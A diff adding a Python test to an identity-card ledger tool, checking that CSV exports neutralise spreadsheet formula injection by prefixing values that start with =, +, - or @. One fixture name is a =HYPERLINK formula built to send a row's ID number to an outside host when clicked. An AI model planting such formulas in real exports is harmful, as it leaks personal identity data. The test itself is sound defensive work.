@@ -5,6 +5,7 @@ sheet with its own headers; a simulation's report on standard output."""
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import stat
@@ -150,6 +151,30 @@ def test_export_backup_and_sealing(desk: str, tmp_path: Path) -> None:
     assert str(NIKS[2]) not in found
     with Ledger(desk, create=False, keys=KeyFile(keys)) as led:
         assert led.where_is(NIKS[7]).card.missing() == []  # still printable when sealed
+
+
+def test_an_export_keeps_text_that_looks_like_a_formula_as_text(
+    ledger_location: str, tmp_path: Path
+) -> None:
+    # A name or address taken in as a formula would run when a clerk opens the export in a
+    # spreadsheet: =HYPERLINK(...) sends the row's NIK away on a click.
+    niks = [int(v) for v in ektpcore.sample_niks(2, seed=34)]
+    intake = card_intake(niks, str(tmp_path / "foto.png"))
+    intake["names"] = ['=HYPERLINK("http://example.org/?"&A2,"Siti")', "Budi Santoso"]
+    intake["card"]["address"] = ["@SUM(1+1)", "-2+3"]
+    with Ledger(ledger_location) as led:
+        led.add_records(
+            niks, OPERATOR, state=State.PRINT_READY, kelurahan=["+Menteng"] * 2, **intake
+        )
+    out = tmp_path / "export.csv"
+    run("ledger", "export", ledger_location, out)
+    with out.open(encoding="utf-8", newline="") as f:
+        rows = {row["nik"]: row for row in csv.DictReader(f)}
+    first, second = rows[str(niks[0])], rows[str(niks[1])]
+    assert first["name"] == """'=HYPERLINK("http://example.org/?"&A2,"Siti")"""
+    assert (first["address"], second["address"]) == ("'@SUM(1+1)", "'-2+3")
+    assert (second["name"], second["kelurahan"]) == ("Budi Santoso", "'+Menteng")
+    assert not any(cell[:1] in "=+-@" for row in rows.values() for cell in row.values() if cell)
 
 
 def test_a_password_changed_by_the_administrator(ledger_location: str) -> None:
